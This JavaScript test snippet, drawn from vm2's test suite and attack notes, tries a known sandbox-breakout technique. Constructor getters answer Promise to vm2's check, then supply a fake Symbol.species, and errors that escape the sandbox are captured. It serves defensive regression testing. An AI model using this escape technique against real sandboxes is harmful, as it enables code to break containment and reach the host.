// Source: vm2 test/vm.js "Constructor getter TOCTOU attack via Promise (non-configurable)", "...
// (configurable)", "... via Promise prototype" and docs/ATTACKS.md Category 7 (GHSA-qvjj-29qf-hp7p,
// "Sandbox Breakout Through Promise Species").
// Tried: a `constructor` getter that answers Promise to vm2's check and a fake species to V8, on the
// promise itself (configurable and not) and on the shared Promise prototype.
const out = {};
const fake = (tag) => ({
  [Symbol.species]: class FakePromise {
    constructor(executor) {
      executor((x) => x, (err) => { out[tag] = 'reject called'; __wr.use(err, tag + ' reject'); });
    }
  },
});
async function fn() {
  const e = new Error();
  e.name = Symbol();
  return e.stack;
}
for (const configurable of [false, true]) {
  const tag = configurable ? 'configurable' : 'nonConfigurable';
  let first = true;
  const p = fn();
  try {
    Object.defineProperty(p, 'constructor', { configurable, get() { if (first) { first = false; return Promise; } return fake(tag); } });
    p.then();
  } catch (e) { out[tag] = String(e.message); }
  try { await p.then(() => undefined, () => undefined); } catch (e) { out[tag + 'Await'] = String(e.message); }
}
try {
  const realProto = Object.getPrototypeOf(Promise.prototype);
  let first = true;
  Object.defineProperty(realProto, 'constructor', { configurable: true, get() { if (first) { first = false; return Promise; } return fake('prototype'); } });
} catch (e) { out.prototype = String(e.message); }
const p = fn();
try { p.then(); } catch (e) {}
try { await p.then(() => undefined, () => undefined); } catch (e) { out.prototypeAwait = String(e.message); }
return out;
